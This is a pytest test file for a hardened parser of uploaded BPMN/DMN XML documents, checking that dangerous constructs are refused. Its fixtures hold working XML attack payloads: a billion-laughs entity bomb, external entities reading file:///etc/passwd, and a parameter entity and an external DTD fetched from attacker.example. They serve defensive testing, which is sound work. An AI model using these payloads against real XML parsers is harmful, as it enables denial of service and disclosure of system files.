"""Hardened parsing of uploaded BPMN/DMN documents."""

from __future__ import annotations

import pytest

from bpmn_audit.engine.errors import UnsafeXMLError
from bpmn_audit.engine.safe_xml import DEFAULT_MAX_BYTES, MalformedXMLError, parse_xml

BPMN_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"

SMALL_BPMN = f"""<?xml version="1.0" encoding="UTF-8"?>
<!-- exported by a modeller -->
<bpmn:definitions xmlns:bpmn="{BPMN_NS}" id="defs" targetNamespace="http://example.org">
  <bpmn:process id="audit" isExecutable="true">
    <bpmn:documentation><![CDATA[Not a real <!DOCTYPE html> declaration]]></bpmn:documentation>
    <bpmn:startEvent id="start"/>
  </bpmn:process>
</bpmn:definitions>
"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<definitions><documentation>&xxe;</documentation></definitions>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE definitions [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<definitions/>
"""

PLAIN_DOCTYPE = """<?xml version="1.0"?>
<!DOCTYPE definitions>
<definitions/>
"""


def test_small_bpmn_document_parses():
    tree = parse_xml(SMALL_BPMN.encode("utf-8"), "audit.bpmn")
    root = tree.getroot()
    assert root.tag == f"{{{BPMN_NS}}}definitions"
    assert root.find(f"{{{BPMN_NS}}}process").get("id") == "audit"
    assert "DOCTYPE html" in root.findtext(f".//{{{BPMN_NS}}}documentation")
    assert tree.docinfo.doctype == ""


def test_str_input_with_encoding_declaration_parses():
    tree = parse_xml(SMALL_BPMN.replace("exported", "exporté"), "audit.bpmn")
    assert tree.getroot().get("id") == "defs"


def test_billion_laughs_is_refused():
    with pytest.raises(UnsafeXMLError) as info:
        parse_xml(BILLION_LAUGHS.encode(), "lol.bpmn")
    message = str(info.value)
    assert message.startswith("lol.bpmn: ")
    assert "entity declarations is not allowed" in message
    assert "DTDs and entities are refused for security" in message


def test_external_entity_is_refused():
    with pytest.raises(UnsafeXMLError, match=r"xxe\.bpmn: .*external entity \(SYSTEM/PUBLIC reference\)"):
        parse_xml(XXE, "xxe.bpmn")


def test_parameter_entity_is_refused():
    with pytest.raises(UnsafeXMLError, match=r"param\.dmn: .*parameter entity is not allowed"):
        parse_xml(PARAMETER_ENTITY.encode(), "param.dmn")


def test_plain_doctype_is_refused():
    with pytest.raises(UnsafeXMLError) as info:
        parse_xml(PLAIN_DOCTYPE.encode(), "model.bpmn")
    assert str(info.value) == ("model.bpmn: a DOCTYPE declaration is not allowed "
                               "(DTDs and entities are refused for security)")


def test_external_dtd_is_refused():
    doc = '<!DOCTYPE definitions SYSTEM "http://attacker.example/x.dtd"><definitions/>'
    with pytest.raises(UnsafeXMLError, match="external DTD"):
        parse_xml(doc, "model.bpmn")


def test_lowercase_and_comment_hidden_doctype_is_refused():
    with pytest.raises(UnsafeXMLError, match="DOCTYPE"):
        parse_xml('<?xml version="1.0"?><!-- hi --><!doctype definitions><definitions/>', "m.bpmn")
    with pytest.raises(UnsafeXMLError, match="DOCTYPE"):
        parse_xml("<!-- <fake> --><!DOCTYPE definitions><definitions/>", "m.bpmn")


def test_doctype_in_another_encoding_is_refused_after_parsing():
    doc = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'.encode("utf-16")
    with pytest.raises(UnsafeXMLError, match="DOCTYPE declaration is not allowed"):
        parse_xml(doc, "utf16.bpmn")


def test_oversized_document_is_refused():
    doc = b"<definitions>" + b"<a/>" * 2_000 + b"</definitions>"
    with pytest.raises(UnsafeXMLError, match=r"big\.bpmn: the document is 8,027 bytes, more than the 8,000"):
        parse_xml(doc, "big.bpmn", max_bytes=8_000)
    assert parse_xml(doc, "big.bpmn").getroot().tag == "definitions"


def test_default_size_limit_is_five_megabytes():
    doc = b"<definitions>" + b" " * 5_000_000 + b"</definitions>"
    with pytest.raises(UnsafeXMLError, match="more than the 5,000,000 bytes allowed"):
        parse_xml(doc, "huge.bpmn")


def test_malformed_xml_reports_file_and_line():
    doc = '<?xml version="1.0"?>\n<definitions>\n  <process>\n</definitions>\n'
    with pytest.raises(MalformedXMLError) as info:
        parse_xml(doc, "broken.bpmn")
    assert info.value.line == 4
    assert info.value.file_name == "broken.bpmn"
    message = str(info.value)
    assert message.startswith("broken.bpmn: not well-formed XML: ")
    assert message.endswith("(line 4)")
    assert not isinstance(info.value, UnsafeXMLError)


def test_undefined_entity_is_malformed_not_expanded():
    with pytest.raises(MalformedXMLError, match="xxe"):
        parse_xml("<definitions>&xxe;</definitions>", "m.bpmn")


def test_empty_document_is_malformed():
    with pytest.raises(MalformedXMLError, match=r"m\.bpmn: not well-formed XML"):
        parse_xml(b"", "m.bpmn")


# Hostile prologs: every check is linear, so these are refused at once. The timeout is a hang guard only.
ALMOST_FIVE_MB = 4_900_000


@pytest.mark.timeout(5)
@pytest.mark.parametrize("opening", ["<!--", "<?", "<?pi "])
@pytest.mark.parametrize("size", [50_000 * 4, ALMOST_FIVE_MB])
def test_unclosed_comments_and_processing_instructions_are_malformed(opening, size):
    doc = (opening * (size // len(opening))).encode()
    assert len(doc) <= DEFAULT_MAX_BYTES
    with pytest.raises(MalformedXMLError) as info:
        parse_xml(doc, "hostile.bpmn")
    assert str(info.value).startswith("hostile.bpmn: not well-formed XML: ")
    assert info.value.line == 1


@pytest.mark.timeout(5)
def test_unclosed_comments_as_text_are_malformed():
    with pytest.raises(MalformedXMLError):
        parse_xml("<!--" * (ALMOST_FIVE_MB // 4), "hostile.bpmn")


@pytest.mark.timeout(5)
@pytest.mark.parametrize("filler", [" ", "\n", " encoding"])
def test_an_unclosed_xml_declaration_in_text_is_malformed(filler):
    doc = '<?xml version="1.0"' + filler * (ALMOST_FIVE_MB // len(filler))
    with pytest.raises(MalformedXMLError):
        parse_xml(doc, "hostile.bpmn")


@pytest.mark.timeout(5)
def test_a_doctype_after_many_comments_and_instructions_is_refused():
    doc = ('<?xml version="1.0"?>\n' + "<!-- padding --><?pi x?>\n" * 50_000
           + '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<d>&x;</d>\n')
    with pytest.raises(UnsafeXMLError, match=r"m\.bpmn: .*external entity \(SYSTEM/PUBLIC reference\)"):
        parse_xml(doc.encode(), "m.bpmn")


@pytest.mark.timeout(5)
def test_a_doctype_with_a_huge_internal_subset_is_still_refused():
    doc = "<!DOCTYPE d [" + '<!ENTITY a "b">' * 300_000 + "]><d/>"
    with pytest.raises(UnsafeXMLError, match="entity declarations is not allowed"):
        parse_xml(doc.encode(), "m.bpmn")
    unclosed = "<!DOCTYPE d [" + "<!ENTITY a " * 400_000
    with pytest.raises(UnsafeXMLError, match="DOCTYPE declaration"):
        parse_xml(unclosed.encode(), "m.bpmn")


def test_a_doctype_inside_a_comment_is_not_a_doctype():
    doc = ('<?xml version="1.0" encoding="UTF-8"?>\n<!-- <!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]> -->\n'
           '<?note <!DOCTYPE d> ?>\n<definitions id="defs"/>\n')
    tree = parse_xml(doc.encode(), "m.bpmn")
    assert tree.getroot().get("id") == "defs"
    assert tree.docinfo.doctype == ""


def test_a_byte_order_mark_and_white_space_before_a_doctype_do_not_hide_it():
    with pytest.raises(UnsafeXMLError, match="DOCTYPE"):
        parse_xml("\ufeff<!-- a -->\n\t <!DOCTYPE definitions><definitions/>".encode(), "m.bpmn")
